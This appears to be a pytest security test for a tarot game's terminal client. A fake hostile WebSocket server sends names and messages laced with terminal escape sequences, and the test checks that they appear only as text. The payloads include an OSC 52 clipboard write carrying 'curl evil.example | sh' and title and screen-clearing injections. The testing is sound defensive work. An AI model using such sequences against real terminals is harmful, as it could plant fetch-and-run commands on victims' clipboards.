"""The terminal client draws what a server sends as text: no escape sequence reaches a terminal.

A player's name once carried an OSC 52 sequence (a clipboard write) straight
to a watcher's terminal. Here the server itself is hostile: a real WebSocket
server on loopback that speaks ``tarot.v2``, replays a real table's snapshot
with escape sequences in the seats' names, then sends an error and a ``bye``
whose messages carry more. ``tarot play --watch`` runs in a real terminal
(tmux), and every byte it writes there is read back.
"""

from __future__ import annotations

import asyncio
import base64
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from websockets.asyncio.server import Server, ServerConnection, serve
from websockets.typing import Subprotocol

from clients.python import Client
from protocol import JSON
from protocol import models as m

from .tmux import TAROT, Terminal

OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
NAMES = ["Ann" + OSC52, "Bob\x1b[31mred\x1b[0m", "Cy\u202eevil", "Dee\x1b]0;title\x07"]
MESSAGE = "oops" + OSC52 + "\x1b[2J\x1b[31mgone"
# What none of them may write to the terminal.
PAYLOADS = [b"\x1b]52;", b"\x1b[31mred", b"\xe2\x80\xae", b"\x1b]0;title", b"\x1b[31mgone"]


async def snapshot_of_a_real_table(url: str) -> m.Snapshot:
    async with await Client.connect(url) as player:
        created = await player.create_table(m.TableOptions(deals=1, ai_level="basic"))
        table_id = created.table.table_id
        await player.join(table_id, seat=0, name="Ann")
        await player.start()
        async with await Client.connect(url) as watcher:
            state = await watcher.watch(table_id)
            assert state.table is not None
            seats = [
                seat.model_copy(update={"name": name, "occupant": "human"})
                for seat, name in zip(state.table.seats, NAMES, strict=True)
            ]
            table = state.table.model_copy(update={"seats": seats})
            return m.Snapshot(table_id=table_id, seq=state.seq, table=table, view=state.view)


@pytest.fixture
async def hostile(url: str) -> AsyncIterator[tuple[Server, m.Snapshot]]:
    """A server that answers a watch with the doctored snapshot, then an error and a bye."""
    snapshot = await snapshot_of_a_real_table(url)

    async def answer(ws: ServerConnection) -> None:
        hello = JSON.decode_client(await ws.recv())
        await ws.send(JSON.encode(m.Welcome(server="hostile", re=hello.id)))
        watch = JSON.decode_client(await ws.recv())
        await ws.send(JSON.encode(m.Watching(table_id=snapshot.table_id, re=watch.id)))
        await ws.send(JSON.encode(snapshot))
        await ws.send(JSON.encode(m.Error(code="internal", message=MESSAGE)))
        await ws.send(JSON.encode(m.Bye(reason="abuse", message=MESSAGE)))
        await ws.wait_closed()

    async with serve(answer, "127.0.0.1", 0, subprotocols=[Subprotocol("tarot.v2.json")]) as server:
        yield server, snapshot


async def test_names_and_messages_from_a_hostile_server_reach_the_terminal_as_text(
    tmp_path: Path, hostile: tuple[Server, m.Snapshot]
) -> None:
    server, snapshot = hostile
    port = next(iter(server.sockets)).getsockname()[1]
    url = f"ws://127.0.0.1:{port}/"
    terminal = Terminal(tmp_path)
    terminal.start(str(TAROT), "play", "--server", url, "--watch", snapshot.table_id, "--json")
    try:
        await asyncio.to_thread(terminal.wait_written, b"The server says bye", 30)
        written = terminal.written()
        for payload in PAYLOADS:
            assert payload not in written, payload
        screen = terminal.screen()
        # Drawn, marked (and cut to the seats' column, "(away)" after them).
        assert "Ann\ufffd]52;c;" in screen and "Bob\ufffd[3…" in screen
        assert "Server error (internal): oops\ufffd]52;c;" in screen
        terminal.press("q")
        assert await asyncio.to_thread(terminal.exit_status) == 0
    finally:
        terminal.close()
